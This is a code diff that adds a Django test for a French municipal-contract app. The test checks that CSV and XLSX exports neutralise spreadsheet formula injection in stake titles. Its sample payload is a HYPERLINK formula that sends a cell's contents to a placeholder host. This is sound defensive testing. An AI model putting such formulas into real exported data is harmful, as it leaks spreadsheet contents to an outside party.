@@ -187,3 +187,22 @@ def test_a_filtered_htmx_table_exports_from_its_page_url_with_the_filters(client
     assert link.startswith(url + "?verdict=") and "export=csv" in link
     rows = csv_rows(client.get(link))
     assert [row[4] for row in rows[1:]] == ["Second texte rejeté."]
+
+
+def test_a_stake_titled_as_a_formula_is_exported_as_text(client: Client) -> None:
+    """Formula injection (core.spreadsheets.safe_cell): a stake titled « =HYPERLINK(…) » comes out of « Télécharger
+    ce tableau » as text with a leading ' — in the CSV and in the XLSX, where openpyxl would otherwise store a
+    formula."""
+    from contrat_ville.diagnostic.tests.factories import contract_with_qpv, make_stake, member
+
+    contract = contract_with_qpv()
+    pilot = member(contract, Role.PILOT)
+    payload = '=HYPERLINK("http://exemple.invalid/?vol="&A1;"Voir")'
+    stake = make_stake(contract, title=payload)
+    client.force_login(pilot)
+    page = client.get(reverse("diagnostic:stake_list", args=[contract.slug])).content.decode()
+    testid = f"stakes-{stake.pillar.code}"
+    rows = csv_rows(client.get(export_link(page, testid, "csv")))
+    assert rows[1][0].startswith("'" + payload)  # « … (v1) »: the stake's version follows its title
+    sheet = xlsx_sheet(client.get(export_link(page, testid, "xlsx")))
+    assert sheet["A2"].value.startswith("'" + payload) and sheet["A2"].data_type == "s"
